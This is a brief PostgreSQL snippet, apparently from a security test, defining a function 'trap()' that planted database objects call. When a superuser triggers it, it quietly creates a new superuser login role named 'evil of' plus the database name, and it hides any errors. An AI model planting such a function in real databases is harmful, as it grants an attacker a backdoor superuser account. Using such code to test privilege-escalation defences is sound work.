-- The function that every planted object calls: run by a superuser it creates another superuser, run by its owner it does nothing.
CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN', 'evil of ' || pg_catalog.current_database());
  END IF;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $trap$;
